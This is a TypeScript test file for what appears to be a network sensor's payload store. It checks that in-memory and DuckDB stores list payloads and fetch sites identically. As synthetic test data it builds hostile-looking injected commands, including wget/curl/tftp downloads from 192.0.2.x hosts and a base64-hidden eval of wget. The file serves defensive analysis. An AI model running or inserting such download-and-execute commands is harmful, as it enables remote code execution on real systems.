/** Payloads in memory answer as those of a store do, row for row. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openDuckDbStoresInThread } from '../../server/store/duckdb/core.ts';
import type { DuckDbStores } from '../../server/store/duckdb/operations.ts';
import type { PayloadRow } from '../../server/store/ingest-commit.ts';
import { listPayloads, payloadOfKey } from '../../server/store/payload-memory/list-payloads.ts';
import { listSites, sitesOfPayload } from '../../server/store/payload-memory/list-sites.ts';
import { MemoryPayloads } from '../../server/store/payload-memory/memory-payloads.ts';
import { ingestCommit, NOON_SECONDS } from '../support/commits.ts';
import { makeFolder } from '../support/folders.ts';
import { keyOf, payloadRow } from '../support/payload-rows.ts';
import { randomNumbers } from '../support/random-flows.ts';

const ROWS = 1_500;
const random = randomNumbers();
const pick = <T>(values: readonly T[]): T => values[Math.floor(random() * values.length)]!;

/** Some would fetch something: alone, several, the same from different payloads, cut, hidden. */
function textOf(number: number): string {
  const host = `192.0.2.${number % 7}`;
  const fetches = [
    `GET /${number};wget http://${host}/a.sh`,
    `POST /${number} curl -O http://${host}/b;tftp -g -r c ${host}`,
    `${number} eval $(echo ${Buffer.from(`wget http://${host}/d`).toString('base64')}|base64 -d)`,
    `GET /${number}?${'x'.repeat(90)};wget http://${host}/cut`,
  ];
  return number % 3 === 0 ? pick(fetches) : `hello ${number}`;
}

function madeRows(): PayloadRow[] {
  const texts = Array.from({ length: 120 }, (_, number) => textOf(number));
  return Array.from({ length: ROWS }, (_, at) => {
    const first = NOON_SECONDS + at * 0.25;
    return payloadRow({
      ...{ text: pick(texts), protocol: pick([6, 17]), sensor: pick([1, 2, 3]), packets: 1 + Math.floor(random() * 9) },
      ...{ firstSeconds: first, lastSeconds: first + pick([0, 0.125, 30]), keptBytes: 100 },
      ports: [pick([23, 80, 8080, 5060]), 1_000 + Math.floor(random() * 20)],
      hasMorePorts: random() < 0.1,
      sources: Array.from({ length: 1 + Math.floor(random() * 3) }, () => `10.0.0.${Math.floor(random() * 200)}`),
    });
  });
}

let stores: DuckDbStores;
let removeFolder: () => Promise<void>;
const memory = new MemoryPayloads();
const rows = madeRows();
beforeAll(async () => {
  const { folder, remove } = await makeFolder();
  removeFolder = remove;
  stores = await openDuckDbStoresInThread(folder);
  for (let at = 0; at < ROWS; at += 500) {
    await stores.flows.commit({ ...ingestCommit({}), payloads: rows.slice(at, at + 500) });
    memory.add(rows.slice(at, at + 500));
  }
  // What is listed of a payload follows from all of its rows.
  await stores.compact();
});
afterAll(async () => {
  await stores.close();
  await removeFolder();
});

const ORDERS = ['packets', 'sources', 'first', 'last'] as const;
const SPANS = [{}, { fromSeconds: NOON_SECONDS + 100, toSeconds: NOON_SECONDS + 110.5 }];

describe.for(ORDERS)('by %s', (order) => {
  test.for(SPANS)('payloads of %o', async (span) => {
    for (const more of [{}, { port: 80 }, { protocol: 17 }, { withSites: true }, { limit: 7 }]) {
      const query = { order, limit: 500, ...span, ...more };
      const found = listPayloads(memory, query);
      expect(found).toEqual(await stores.payloads.list({ session: 0, ...query }));
      expect(found.total).toBeGreaterThan(0);
    }
  });

  test.for(SPANS)('sites of %o', async (span) => {
    for (const limit of [500, 3]) {
      const found = listSites(memory, { order, limit, ...span });
      expect(found).toEqual(await stores.payloads.sites({ session: 0, order, limit, ...span }));
      expect(found.total).toBeGreaterThan(3);
    }
  });
});

test('each payload, and its sites', async () => {
  let sites = 0;
  for (const row of rows.slice(0, 200)) {
    expect(payloadOfKey(memory, row)).toEqual(await stores.payloads.of(0, row));
    const found = sitesOfPayload(memory, row);
    expect(found).toEqual(await stores.payloads.sitesOf(0, row));
    sites += found.length;
  }
  expect(sites).toBeGreaterThan(20);
  expect(payloadOfKey(memory, keyOf('nowhere'))).toBeNull();
  expect(sitesOfPayload(memory, keyOf('nowhere'))).toEqual([]);
});

test('packets add up', async () => {
  expect(memory.account()).toEqual(await stores.payloads.account(0));
  expect(memory.account().present).toBe(memory.packets);
});

test('a flood of payloads leaves room to those that would fetch something, and what has none is counted', () => {
  const small = new MemoryPayloads({ payloads: 100 });
  small.add(Array.from({ length: 300 }, (_, at) => payloadRow({ text: `flood ${at}`, packets: 2 })));
  small.add([payloadRow({ text: 'wget http://192.0.2.9/a', packets: 5 }), payloadRow({ text: 'flood 3', packets: 4 })]);
  expect(small.account()).toEqual({ present: 75 * 2 + 5 + 4, expired: 0, givenUp: 225 * 2 });
  expect(listSites(small, { order: 'packets', limit: 5 }).total).toBe(1);
  small.add(Array.from({ length: 200 }, (_, at) => payloadRow({ text: `wget http://192.0.2.7/made-up/${at}` })));
  // A hundred places: three quarters are taken, and what would fetch something gets the rest, and never more than half.
  expect(listSites(small, { order: 'packets', limit: 5 }).total).toBe(25);
  const made = new MemoryPayloads({ payloads: 100 });
  made.add(Array.from({ length: 200 }, (_, at) => payloadRow({ text: `wget http://192.0.2.7/made-up/${at}` })));
  expect(made.account()).toEqual({ present: 50, expired: 0, givenUp: 150 });
  const few = new MemoryPayloads({ bytes: 64 });
  few.add(Array.from({ length: 30 }, (_, at) => payloadRow({ text: `sixteen bytes ${at + 10}`, packets: 1 })));
  expect(few.account()).toEqual({ present: 3, expired: 0, givenUp: 27 });
});
